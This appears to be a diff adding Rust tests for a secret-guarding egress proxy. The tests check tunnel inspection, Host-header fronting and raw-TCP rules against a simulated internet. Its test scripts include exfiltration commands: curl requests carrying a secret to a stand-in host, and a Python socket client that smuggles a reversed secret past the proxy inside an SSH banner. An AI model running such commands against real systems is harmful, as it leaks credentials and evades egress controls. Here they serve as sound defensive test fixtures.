@@ -6,6 +6,8 @@
 
 mod common;
 
+use std::time::{Duration, Instant};
+
 use common::inet::{Internet, audit_events, egress_users, find, needs_root};
 use common::*;
 
@@ -28,6 +30,214 @@ fn run(net: &Internet, dir: &Dir, profile: &str, script: &str) -> Out {
     let secrets = dir.write("home/secrets.json", &format!("{{\"LEAKY\": \"{SECRET}\"}}"));
     let extra = ["--secrets-file", secrets.to_str().unwrap(), "--no-mask"];
     net.run(dir, profile, &extra, script)
+}
+
+/// The attacker logs a connection only when it ends: wait (a bounded time) until it logged one
+/// on `port`, so that "received 0 bytes" is not read before the bytes were counted.
+fn attacker_lines(net: &Internet, port: u16) -> Vec<String> {
+    let start = Instant::now();
+    let prefix = format!("tcp {port} ");
+    loop {
+        let lines: Vec<String> = net
+            .log("attacker.log")
+            .lines()
+            .filter(|l| l.starts_with(&prefix))
+            .map(str::to_string)
+            .collect();
+        if !lines.is_empty() || start.elapsed() > Duration::from_secs(8) {
+            return lines;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// The attacker received no byte on `port` (a connection that carried nothing may be logged).
+fn assert_attacker_got_nothing(net: &Internet, port: u16, uid: u32) {
+    for line in attacker_lines(net, port) {
+        assert!(
+            line.ends_with(" 0"),
+            "as uid {uid}: the attacker got {line}"
+        );
+    }
+}
+
+fn reason_contains(ev: &[&serde_json::Value], text: &str) -> bool {
+    ev.iter()
+        .any(|e| e["reason"].as_str().is_some_and(|r| r.contains(text)))
+}
+
+/// `curl -p`: `CONNECT plain.test:80`, then `GET /?t=<secret>` inside the tunnel. The same
+/// request as ordinary proxied HTTP is refused; inside a tunnel it must be too, and the tunnel
+/// is served request by request: decided, Host checked against the CONNECT host, logged.
+#[test]
+fn plain_http_inside_a_connect_tunnel_is_checked_like_proxied_http() {
+    if !needs_root() {
+        return;
+    }
+    for uid in egress_users() {
+        let net = Internet::new();
+        let dir = Dir::new(uid);
+        let out = run(
+            &net,
+            &dir,
+            PROFILE,
+            "curl -s -m 8 -p -o /dev/null -w 'leak %{http_code}\\n' \"http://plain.test/?t=$LEAKY\"; \
+             curl -s -m 8 -p -o /dev/null -w 'fronted %{http_code}\\n' -H 'Host: other.test' http://allowed.test/fronted; \
+             curl -s -m 8 -p -o /dev/null -w 'absolute %{http_code}\\n' --request-target http://other.test/abs http://allowed.test/; \
+             curl -s -m 8 -p -w 'ok %{http_code}\\n' http://allowed.test/ok",
+        );
+        assert_eq!(
+            out.stdout(),
+            "leak 403\nfronted 403\nabsolute 403\nhello from allowed.test over http\nok 200\n",
+            "as uid {uid}: {}",
+            out.stderr()
+        );
+        assert_attacker_got_nothing(&net, 80, uid);
+        let got = net.log("requests.log");
+        assert_eq!(
+            got, "http allowed.test GET /ok auth=- body=''\n",
+            "as uid {uid}"
+        );
+        let ev = audit_events(&dir);
+        let leak = find(
+            &ev,
+            "secret_leak",
+            &[
+                ("secret_name", "LEAKY"),
+                ("dest_name", "plain.test"),
+                ("via", "proxy"),
+            ],
+        );
+        assert_eq!(leak.len(), 1, "as uid {uid}: {ev:#?}");
+        let http_denied = find(&ev, "http", &[("decision", "deny"), ("status", "403")]);
+        assert!(
+            http_denied
+                .iter()
+                .any(|e| e["url"].as_str().unwrap().starts_with("http://plain.test/")),
+            "as uid {uid}: {ev:#?}"
+        );
+        let fronted = find(
+            &ev,
+            "connect",
+            &[("dest_name", "allowed.test"), ("decision", "deny")],
+        );
+        assert_eq!(fronted.len(), 2, "as uid {uid}: {ev:#?}");
+        assert!(
+            reason_contains(&fronted, "does not match the CONNECT host allowed.test:80"),
+            "as uid {uid}: {ev:#?}"
+        );
+        assert_eq!(
+            find(
+                &ev,
+                "http",
+                &[
+                    ("url", "http://allowed.test/ok"),
+                    ("decision", "allow"),
+                    ("status", "200")
+                ]
+            )
+            .len(),
+            1,
+            "as uid {uid}: {ev:#?}"
+        );
+        let log = std::fs::read_to_string(dir.root.join("audit.jsonl")).unwrap();
+        assert!(!log.contains(SECRET), "as uid {uid}");
+    }
+}
+
+/// A client of the step's own making: CONNECT, then an SSH banner (neither TLS nor HTTP).
+const RAW_CLIENT: &str = r#"python3 -c '
+import os, socket
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(b"CONNECT plain.test:9999 HTTP/1.1\r\nHost: plain.test:9999\r\n\r\n")
+print(s.recv(200).split(b"\r\n")[0].decode())
+s.sendall(b"SSH-2.0-OpenSSH_9.2\r\n" + os.environb[b"LEAKY"][::-1] + b"\r\n")
+s.settimeout(6)
+try:
+    print("reply", len(s.recv(100)))
+except OSError as e:
+    print("error", type(e).__name__)
+'"#;
+
+#[test]
+fn another_protocol_in_a_tunnel_to_a_name_rule_is_refused() {
+    if !needs_root() {
+        return;
+    }
+    for uid in egress_users() {
+        let net = Internet::new();
+        let dir = Dir::new(uid);
+        let out = run(&net, &dir, PROFILE, RAW_CLIENT);
+        assert_eq!(
+            out.stdout(),
+            "HTTP/1.1 200 Connection established\nreply 0\n",
+            "as uid {uid}: {}",
+            out.stderr()
+        );
+        assert_attacker_got_nothing(&net, 9999, uid);
+        let ev = audit_events(&dir);
+        let denied = find(
+            &ev,
+            "connect",
+            &[
+                ("dest_name", "plain.test"),
+                ("dest_port", "9999"),
+                ("decision", "deny"),
+            ],
+        );
+        assert!(
+            reason_contains(&denied, "neither TLS nor HTTP"),
+            "as uid {uid}: {ev:#?}"
+        );
+        assert!(
+            out.stderr().contains("raw_tcp: true"),
+            "the refusal says how to allow it: {}",
+            out.stderr()
+        );
+    }
+}
+
+#[test]
+fn a_rule_with_raw_tcp_lets_another_protocol_through_its_tunnel() {
+    if !needs_root() {
+        return;
+    }
+    let profile = PROFILE.replace(
+        "    - { host: plain.test, ports: [80, 9999] }\n",
+        "    - { host: plain.test, ports: [9999], raw_tcp: true }\n",
+    );
+    for uid in egress_users() {
+        let net = Internet::new();
+        let dir = Dir::new(uid);
+        let out = run(&net, &dir, &profile, RAW_CLIENT);
+        assert!(
+            out.stdout()
+                .starts_with("HTTP/1.1 200 Connection established\n"),
+            "as uid {uid}: {}{}",
+            out.stdout(),
+            out.stderr()
+        );
+        let lines = attacker_lines(&net, 9999);
+        assert!(
+            lines.iter().any(|l| !l.ends_with(" 0")),
+            "as uid {uid}: {lines:?}"
+        );
+        let ev = audit_events(&dir);
+        assert_eq!(
+            find(
+                &ev,
+                "connect",
+                &[
+                    ("dest_name", "plain.test"),
+                    ("decision", "allow"),
+                    ("rule", "plain.test:9999 raw_tcp")
+                ]
+            )
+            .len(),
+            1,
+            "as uid {uid}: {ev:#?}"
+        );
+    }
 }
 
 /// The cheap re-encodings: every body below carries the secret, and each is refused with 403
